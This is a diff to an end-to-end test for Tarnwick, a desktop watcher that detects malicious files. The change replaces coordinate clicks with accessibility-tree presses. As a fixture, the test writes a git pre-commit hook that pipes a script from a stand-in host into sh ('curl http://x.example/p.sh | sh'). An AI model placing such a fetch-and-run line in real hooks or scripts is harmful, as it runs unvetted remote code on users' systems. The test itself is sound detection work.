@@ -1,24 +1,28 @@
 // The whole application on a real, private desktop: Xvfb, a session bus, dunst and trayer. The real
 // Tarnwick with the real twwatch beside it starts on an empty store; a directory is added through the
-// real folder chooser (driven with xdotool), a malicious git hook appears in it, the finding is stored
-// and announced by dunst, the notification's action opens the viewer, the tray icon opens the panel,
-// the trash button empties it and the power button quits, leaving no watcher behind.
+// real folder chooser (its "+" pressed through the accessibility tree, the path typed with xdotool), a
+// malicious git hook appears in it, the finding is stored and announced by dunst, the notification's
+// action opens the viewer, the tray icon opens the panel, the trash button empties it and the power
+// button quits, leaving no watcher behind.
 //
 // Each step leaves a screenshot in the test's output folder (TW_E2E_OUTPUT_DIR).
 
+#include "AccessibleTree.h"
+#include "AppProcesses.h"
 #include "DesktopSession.h"
-#include "WatcherProcesses.h"
 
 #include <QDir>
 #include <QFile>
+#include <QHash>
 #include <QProcess>
-#include <QRegularExpression>
+#include <QRect>
 #include <QSqlDatabase>
 #include <QSqlQuery>
 #include <QTemporaryDir>
 #include <QTest>
 #include <signal.h>
 
+using tw::test::AccessibleTree;
 using tw::test::DesktopSession;
 
 // The diagnostics (logs, a screenshot) are gathered only when the check fails.
@@ -33,15 +37,6 @@ namespace {
 
 const QString Tarnwick = QStringLiteral(TW_BIN_DIR "/Tarnwick");
 const QString OutputDir = QStringLiteral(TW_E2E_OUTPUT_DIR);
-
-struct Geometry
-{
-    int x = 0;
-    int y = 0;
-    int width = 0;
-    int height = 0;
-    bool valid = false;
-};
 
 } // namespace
 
@@ -60,13 +55,22 @@ private:
     QString trayWindow();
     // Starts Tarnwick on an empty store of its own, in a fresh home named `name`.
     void startApp(const QString& name);
-    void quitThroughThePanel(const Geometry& panel);
+    void quitThroughThePanel();
+    // Presses a control by its accessible name, in a window by its title.
+    void press(const QString& window, const QString& control);
     // Runs a desktop tool (xdotool, import) on the private display; its stdout, or empty on failure.
-    QByteArray tool(const QString& program, const QStringList& arguments, int* exitCode = nullptr);
-    QString findWindow(const QString& namePattern, bool onlyVisible = true);
+    QByteArray tool(const QString& program, const QStringList& arguments);
+    QString findWindow(const QString& namePattern);
     QString waitForWindow(const QString& namePattern, int timeoutMs = 20000);
-    Geometry geometry(const QString& window);
-    void click(int x, int y);
+    QRect geometry(const QString& window);
+    // The window with the X input focus: there is no window manager here to name an active window.
+    QByteArray focusedWindow()
+    {
+        return tool(QStringLiteral("xdotool"), {QStringLiteral("getwindowfocus")}).trimmed();
+    }
+    // The tray icon is a window embedded in the tray, with no accessible object: it is clicked in its
+    // middle, the one place on screen this test points at.
+    void clickTray();
     void screenshot(const QString& name);
     // One window alone, for the README's pictures.
     void windowShot(const QString& window, const QString& name);
@@ -74,6 +78,7 @@ private:
     QString diagnostics();
 
     std::unique_ptr<DesktopSession> m_desktop;
+    std::unique_ptr<AccessibleTree> m_tree;
     QTemporaryDir m_dir;
     QProcess m_trayer;
     QProcess m_app;
@@ -90,6 +95,9 @@ void EndToEndTest::initTestCase()
     }
     m_desktop = std::make_unique<DesktopSession>();
     QVERIFY2(m_desktop->isUp(), qPrintable(m_desktop->error()));
+    // Before any application starts: applications ask it at start which events to send.
+    m_tree = std::make_unique<AccessibleTree>(m_desktop->accessibilityBusAddress());
+    QVERIFY(m_tree->isUp());
 }
 
 void EndToEndTest::startTray()
@@ -122,20 +130,9 @@ QString EndToEndTest::trayWindow()
 void EndToEndTest::startApp(const QString& name)
 {
     DesktopSession::stop(m_app, 5000);
-    const QString home = m_dir.filePath(name);
-    m_dataHome = home + QStringLiteral("/data");
-    for (const QString& dir : {m_dataHome, home + QStringLiteral("/config"), home + QStringLiteral("/run")}) {
-        QVERIFY(QDir().mkpath(dir));
-    }
-    QFile::setPermissions(home + QStringLiteral("/run"),
-                          QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
+    QProcessEnvironment env = appHomeEnvironment(m_dir.filePath(name), m_desktop->environment());
+    m_dataHome = env.value(QStringLiteral("XDG_DATA_HOME"));
     m_storePath = m_dataHome + QStringLiteral("/Tarnwick/Tarnwick/store.sqlite");
-
-    QProcessEnvironment env = m_desktop->environment();
-    env.insert(QStringLiteral("XDG_DATA_HOME"), m_dataHome);
-    env.insert(QStringLiteral("XDG_CONFIG_HOME"), home + QStringLiteral("/config"));
-    env.insert(QStringLiteral("XDG_RUNTIME_DIR"), home + QStringLiteral("/run"));
-    env.insert(QStringLiteral("XDG_STATE_HOME"), home + QStringLiteral("/state"));
     env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("xcb"));
     env.remove(QStringLiteral("QT_QPA_PLATFORMTHEME"));
     env.insert(QStringLiteral("LC_ALL"), QStringLiteral("C.UTF-8"));
@@ -147,10 +144,19 @@ void EndToEndTest::startApp(const QString& name)
     QVERIFY2(m_app.waitForStarted(10000), qPrintable(m_app.errorString()));
 }
 
-void EndToEndTest::quitThroughThePanel(const Geometry& panel)
+void EndToEndTest::press(const QString& window, const QString& control)
 {
-    // Power: the rightmost header button (26-point buttons, 8 from the edge).
-    click(panel.x + panel.width - 8 - 13, panel.y + 8 + 13);
+    // The application exports its widgets a moment after they are shown.
+    if (!QTest::qWaitFor([&] { return m_tree->press(window, control); }, 10000)) {
+        QFAIL(qPrintable(
+            QStringLiteral("no \"%1\" in \"%2\"; windows: %3\n%4")
+                .arg(control, window, m_tree->windowTitles().join(QStringLiteral(", ")), diagnostics())));
+    }
+}
+
+void EndToEndTest::quitThroughThePanel()
+{
+    press(QStringLiteral("Findings"), QStringLiteral("Quit Tarnwick"));
     E2E_VERIFY(m_app.waitForFinished(15000));
     QTRY_VERIFY_WITH_TIMEOUT(watchersFor(m_dataHome).isEmpty(), 15000);
 }
@@ -163,25 +169,22 @@ void EndToEndTest::lateTrayIsPickedUp()
     const QString panelWindow = waitForWindow(QStringLiteral("^Findings$"));
     E2E_VERIFY(!panelWindow.isEmpty());
     QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
-    QTest::qWait(300);
     screenshot(QStringLiteral("00-no-tray-panel-window"));
 
     startTray();
     const QString tray = trayWindow();
     // The icon is embedded once the tray asks for room for it.
-    QTRY_VERIFY_WITH_TIMEOUT(geometry(trayWindow()).width >= 16, 15000);
-    const Geometry trayGeometry = geometry(tray);
-    click(trayGeometry.x + trayGeometry.width / 2, trayGeometry.y + trayGeometry.height / 2);
-    QTest::qWait(500);
+    QTRY_VERIFY_WITH_TIMEOUT(geometry(trayWindow()).width() >= 16, 15000);
+    const QRect trayGeometry = geometry(tray);
+    clickTray();
     const QString popup = waitForWindow(QStringLiteral("^Findings$"), 10000);
     E2E_VERIFY(!popup.isEmpty());
-    const Geometry panel = geometry(popup);
+    const QRect panel = geometry(popup);
     // Anchored under the icon now, at the panel's size.
-    QCOMPARE(panel.width, 420);
-    QCOMPARE(panel.height, 360);
-    E2E_VERIFY(panel.y >= trayGeometry.y + trayGeometry.height - 1);
+    QCOMPARE(panel.size(), QSize(420, 360));
+    E2E_VERIFY(panel.top() >= trayGeometry.bottom());
     screenshot(QStringLiteral("00-tray-picked-up"));
-    quitThroughThePanel(panel);
+    quitThroughThePanel();
 }
 
 void EndToEndTest::cleanup()
@@ -199,83 +202,61 @@ void EndToEndTest::cleanupTestCase()
 {
     cleanup();
     DesktopSession::stop(m_trayer, 5000);
+    m_tree.reset();
     m_desktop.reset();
 }
 
-QByteArray EndToEndTest::tool(const QString& program, const QStringList& arguments, int* exitCode)
+QByteArray EndToEndTest::tool(const QString& program, const QStringList& arguments)
 {
     QProcess process;
     process.setProcessEnvironment(m_desktop->environment());
     process.start(program, arguments);
     if (!process.waitForFinished(15000)) {
-        process.kill();
-        process.waitForFinished(5000);
-        if (exitCode) {
-            *exitCode = -1;
-        }
+        DesktopSession::stop(process, 5000);
         return {};
-    }
-    if (exitCode) {
-        *exitCode = process.exitCode();
     }
     return process.exitCode() == 0 ? process.readAllStandardOutput() : QByteArray();
 }
 
-QString EndToEndTest::findWindow(const QString& namePattern, bool onlyVisible)
+QString EndToEndTest::findWindow(const QString& namePattern)
 {
-    QStringList arguments{QStringLiteral("search")};
-    if (onlyVisible) {
-        arguments << QStringLiteral("--onlyvisible");
-    }
-    arguments << QStringLiteral("--name") << namePattern;
-    const QList<QByteArray> ids = tool(QStringLiteral("xdotool"), arguments).trimmed().split('\n');
-    return ids.isEmpty() ? QString() : QString::fromLatin1(ids.last()).trimmed();
+    const QList<QByteArray> ids =
+        tool(QStringLiteral("xdotool"), {QStringLiteral("search"), QStringLiteral("--onlyvisible"),
+                                         QStringLiteral("--name"), namePattern})
+            .trimmed()
+            .split('\n');
+    return QString::fromLatin1(ids.last()).trimmed();
 }
 
 QString EndToEndTest::waitForWindow(const QString& namePattern, int timeoutMs)
 {
     QString id;
-    QDeadlineTimer deadline(timeoutMs);
-    while (!deadline.hasExpired()) {
-        id = findWindow(namePattern);
-        if (!id.isEmpty()) {
-            return id;
-        }
-        QTest::qWait(200);
-    }
-    return {};
+    return QTest::qWaitFor([&] { return !(id = findWindow(namePattern)).isEmpty(); }, timeoutMs) ? id
+                                                                                                 : QString();
 }
 
-Geometry EndToEndTest::geometry(const QString& window)
+QRect EndToEndTest::geometry(const QString& window)
 {
+    // Lines of NAME=value: X, Y, WIDTH, HEIGHT among them.
+    QHash<QByteArray, int> values;
     const QByteArray shell = tool(QStringLiteral("xdotool"),
                                   {QStringLiteral("getwindowgeometry"), QStringLiteral("--shell"), window});
-    Geometry g;
     for (const QByteArray& line : shell.split('\n')) {
-        const QList<QByteArray> pair = line.split('=');
-        if (pair.size() != 2) {
-            continue;
-        }
-        const int value = pair.at(1).trimmed().toInt();
-        if (pair.at(0) == "X") {
-            g.x = value;
-        } else if (pair.at(0) == "Y") {
-            g.y = value;
-        } else if (pair.at(0) == "WIDTH") {
-            g.width = value;
-        } else if (pair.at(0) == "HEIGHT") {
-            g.height = value;
+        if (const qsizetype eq = line.indexOf('='); eq > 0) {
+            values.insert(line.left(eq), line.mid(eq + 1).toInt());
         }
     }
-    g.valid = g.width > 0 && g.height > 0;
-    return g;
+    return QRect(values.value("X"), values.value("Y"), values.value("WIDTH"), values.value("HEIGHT"));
 }
 
-void EndToEndTest::click(int x, int y)
+void EndToEndTest::clickTray()
 {
-    tool(QStringLiteral("xdotool"), {QStringLiteral("mousemove"), QString::number(x), QString::number(y)});
-    QTest::qWait(150);
-    tool(QStringLiteral("xdotool"), {QStringLiteral("click"), QStringLiteral("1")});
+    const QPoint middle = geometry(trayWindow()).center();
+    // One xdotool run: the X server takes the move before the click. (--sync would wait forever when
+    // the pointer is already there.)
+    tool(QStringLiteral("xdotool"),
+         {QStringLiteral("mousemove"), QString::number(middle.x()), QString::number(middle.y()),
+          QStringLiteral("click"), QStringLiteral("1")});
 }
 
 void EndToEndTest::screenshot(const QString& name)
@@ -340,92 +321,87 @@ void EndToEndTest::fromEmptyStoreToClearedPanel()
     const QString directories = waitForWindow(QStringLiteral("^Watched Directories$"));
     E2E_VERIFY(!directories.isEmpty());
     QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
-    QTest::qWait(500);
     screenshot(QStringLiteral("01-directories-empty"));
 
-    // 2. Add the folder through the real chooser: "+" at the header's right end, type the path, Open.
-    const Geometry window = geometry(directories);
-    E2E_VERIFY(window.valid);
-    click(window.x + window.width - 25, window.y + 23);
-    const QString chooser = waitForWindow(QStringLiteral("^Choose a directory to watch$"));
+    // 2. Add the folder through the real chooser: "+", type the path into it once it has the keyboard, Open.
+    press(QStringLiteral("Watched Directories"), QStringLiteral("Add Directory"));
+    const QString chooserName = QStringLiteral("^Choose a directory to watch$");
+    const QString chooser = waitForWindow(chooserName);
     E2E_VERIFY(!chooser.isEmpty());
-    QTest::qWait(500);
+    QTRY_COMPARE_WITH_TIMEOUT(focusedWindow(), chooser.toLatin1(), 10000);
     tool(QStringLiteral("xdotool"),
          {QStringLiteral("type"), QStringLiteral("--delay"), QStringLiteral("15"), watched});
-    QTest::qWait(300);
     screenshot(QStringLiteral("02-folder-chooser"));
     // The completer may take the first Return; a second one opens.
-    for (int attempt = 0;
-         attempt < 3 && !findWindow(QStringLiteral("^Choose a directory to watch$")).isEmpty(); ++attempt) {
+    for (int attempt = 0; attempt < 3; ++attempt) {
         tool(QStringLiteral("xdotool"), {QStringLiteral("key"), QStringLiteral("Return")});
-        QTest::qWait(700);
+        if (QTest::qWaitFor([&] { return findWindow(chooserName).isEmpty(); }, 3000)) {
+            break;
+        }
     }
-    E2E_VERIFY(findWindow(QStringLiteral("^Choose a directory to watch$")).isEmpty());
+    E2E_VERIFY(findWindow(chooserName).isEmpty());
     // Kept without an explicit save: the main context saves by itself.
     QTRY_COMPARE_WITH_TIMEOUT(storedRows(QStringLiteral("directory")), 1, 10000);
-    QTest::qWait(500);
     screenshot(QStringLiteral("03-directories-added"));
     windowShot(directories, QStringLiteral("directories"));
 
-    // 3. A git hook that downloads and runs a script.
+    // 3. A git hook that downloads and runs a script. The watcher may still be setting up its watches on
+    // the new folders when it lands, so it is written again until it is announced.
     QVERIFY(QDir().mkpath(watched + QStringLiteral("/.git/hooks")));
-    // Give the watcher a moment to set up its watches on the new folders before the hook lands.
-    QTest::qWait(1500);
     const QString hook = watched + QStringLiteral("/.git/hooks/pre-commit");
-    {
+    const auto writeHook = [&] {
         QFile file(hook);
-        QVERIFY(file.open(QIODevice::WriteOnly));
-        file.write("#!/bin/sh\ncurl http://x.example/p.sh | sh\n");
-    }
-    QFile::setPermissions(hook, QFile::permissions(hook) | QFileDevice::ExeOwner);
+        const bool written =
+            file.open(QIODevice::WriteOnly) && file.write("#!/bin/sh\ncurl http://x.example/p.sh | sh\n") > 0;
+        return written && file.setPermissions(file.permissions() | QFileDevice::ExeOwner);
+    };
 
     // 4. Stored and announced.
     QString summary;
-    QDeadlineTimer deadline(30000);
-    while (summary.isEmpty() && !deadline.hasExpired()) {
+    const auto announced = [&] {
         for (const auto& n : m_desktop->notifications()) {
             if (n.summary.startsWith(QStringLiteral("\u26D4 Critical: ")) && n.body == hook) {
                 summary = n.summary;
             }
         }
-        QTest::qWait(200);
+        return !summary.isEmpty();
+    };
+    for (int attempt = 0; attempt < 6; ++attempt) {
+        QVERIFY(writeHook());
+        if (QTest::qWaitFor(announced, 5000)) {
+            break;
+        }
     }
     E2E_VERIFY(!summary.isEmpty());
     QVERIFY(summary.size() > QStringLiteral("\u26D4 Critical: ").size());
     QTRY_VERIFY_WITH_TIMEOUT(storedRows(QStringLiteral("finding")) >= 1, 10000);
-    QTest::qWait(300);
     screenshot(QStringLiteral("04-notification"));
 
     // 5. The notification's action opens the viewer, titled with the file's name.
     QCOMPARE(m_desktop->dunstctl({QStringLiteral("action"), QStringLiteral("0")}), 0);
     const QString viewer = waitForWindow(QStringLiteral("^pre-commit$"));
     E2E_VERIFY(!viewer.isEmpty());
-    QTest::qWait(1500);
+    // Once it has the keyboard it is done coming forward; a panel opened before could lose to it.
+    QTRY_COMPARE_WITH_TIMEOUT(focusedWindow(), viewer.toLatin1(), 10000);
     screenshot(QStringLiteral("05-viewer"));
     windowShot(viewer, QStringLiteral("viewer"));
 
     // 6. The tray icon opens the panel with the finding.
-    const QString tray = trayWindow();
-    const Geometry trayGeometry = geometry(tray);
-    E2E_VERIFY(trayGeometry.valid);
-    click(trayGeometry.x + trayGeometry.width / 2, trayGeometry.y + trayGeometry.height / 2);
+    E2E_VERIFY(geometry(trayWindow()).isValid());
+    clickTray();
     const QString panel = waitForWindow(QStringLiteral("^Findings$"), 10000);
     E2E_VERIFY(!panel.isEmpty());
-    QTest::qWait(700);
     screenshot(QStringLiteral("06-panel"));
     windowShot(panel, QStringLiteral("panel"));
-    const Geometry panelGeometry = geometry(panel);
-    QCOMPARE(panelGeometry.width, 420);
-    QCOMPARE(panelGeometry.height, 360);
+    QCOMPARE(geometry(panel).size(), QSize(420, 360));
 
-    // 7. Trash: the third button from the right (26-point buttons, 4 apart, 8 from the edge).
-    click(panelGeometry.x + panelGeometry.width - 8 - 26 * 2 - 4 * 2 - 13, panelGeometry.y + 8 + 13);
+    // 7. Trash.
+    press(QStringLiteral("Findings"), QStringLiteral("Clear findings"));
     QTRY_COMPARE_WITH_TIMEOUT(storedRows(QStringLiteral("finding")), 0, 10000);
-    QTest::qWait(500);
     screenshot(QStringLiteral("07-panel-cleared"));
 
     // 8. Power: the application ends, and the watcher with it.
-    quitThroughThePanel(panelGeometry);
+    quitThroughThePanel();
 }
 
 QTEST_GUILESS_MAIN(EndToEndTest)
